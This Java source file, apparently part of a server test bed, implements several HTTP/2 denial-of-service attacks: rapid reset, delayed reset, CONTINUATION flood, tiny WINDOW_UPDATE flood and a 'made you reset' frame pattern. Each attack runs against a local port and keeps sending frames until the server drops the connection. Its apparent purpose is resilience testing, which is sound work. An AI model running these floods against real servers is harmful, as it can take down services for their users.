package dev.adit.neverdrop;

import static dev.adit.testbed.Http2Frames.END_HEADERS;
import static dev.adit.testbed.Http2Frames.END_STREAM;
import static dev.adit.testbed.Http2Frames.HEADERS;
import static dev.adit.testbed.Http2Frames.RST_STREAM;
import static dev.adit.testbed.Http2Frames.write;

import dev.adit.testbed.Http2Frames;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.util.Arrays;
import java.util.concurrent.atomic.LongAdder;
import java.util.concurrent.locks.LockSupport;

/** Attacks of one connection that sends frames as fast as they are taken. */
final class Http2Attacks {
    private static final int IN_A_ROW = 50;
    private static final byte[] CANCEL = {0, 0, 0, 8};
    private static final byte[] HEAD = Http2Frames.get("a.test", "/");
    private static final byte[] FIELD = field();

    private Http2Attacks() {}

    static void rapidReset(int port, LongAdder done) throws IOException {
        frames(port, done, (out, stream) -> {
            write(out, HEADERS, END_STREAM | END_HEADERS, stream, HEAD);
            write(out, RST_STREAM, 0, stream, CANCEL);
        });
    }

    static void lateReset(int port, LongAdder done) throws IOException {
        frames(port, done, (out, stream) -> {
            write(out, HEADERS, END_STREAM | END_HEADERS, stream, HEAD);
            if (stream % (2 * IN_A_ROW) == 1 && stream > 1) {
                LockSupport.parkNanos(1_000_000);
                for (var i = 1; i <= IN_A_ROW; i++) {
                    write(out, RST_STREAM, 0, stream - 2 * i, CANCEL);
                }
            }
        });
    }

    static void continuationFlood(int port, LongAdder done) throws IOException {
        frames(port, done, (out, stream) -> {
            if (stream == 1) {
                write(out, HEADERS, END_STREAM, 1, HEAD);
            }
            write(out, Http2Frames.CONTINUATION, 0, 1, FIELD);
        });
    }

    static void smallFrames(int port, LongAdder done) throws IOException {
        frames(port, done, (out, stream) -> {
            for (var i = 0; i < IN_A_ROW; i++) {
                write(out, Http2Frames.WINDOW_UPDATE, 0, 0, new byte[] {0, 0, 0, 1});
            }
        });
    }

    static void madeYouReset(int port, LongAdder done) throws IOException {
        frames(port, done, (out, stream) -> {
            write(out, HEADERS, END_HEADERS, stream, HEAD);
            write(out, Http2Frames.WINDOW_UPDATE, 0, stream, new byte[4]);
        });
    }

    /** One round of frames on a connection. */
    @FunctionalInterface
    private interface Frames {
        void send(OutputStream out, int stream) throws IOException;
    }

    private static void frames(int port, LongAdder done, Frames frames) throws IOException {
        try (var socket = new Socket("127.0.0.1", port)) {
            var drain = Thread.startVirtualThread(() -> {
                try {
                    socket.getInputStream().transferTo(OutputStream.nullOutputStream());
                } catch (IOException _) {
                    // the server has had enough
                }
            });
            var out = socket.getOutputStream();
            Http2Frames.preface(out, Http2Frames.NOTHING);
            for (var stream = 1; drain.isAlive() && !Thread.currentThread().isInterrupted(); stream += 2) {
                var round = new ByteArrayOutputStream();
                frames.send(round, stream);
                out.write(round.toByteArray());
                done.increment();
            }
        }
    }

    private static byte[] field() {
        var field = new byte[4 + 100];
        field[1] = 1;
        field[2] = 'a';
        field[3] = 100;
        Arrays.fill(field, 4, field.length, (byte) 'b');
        return field;
    }
}
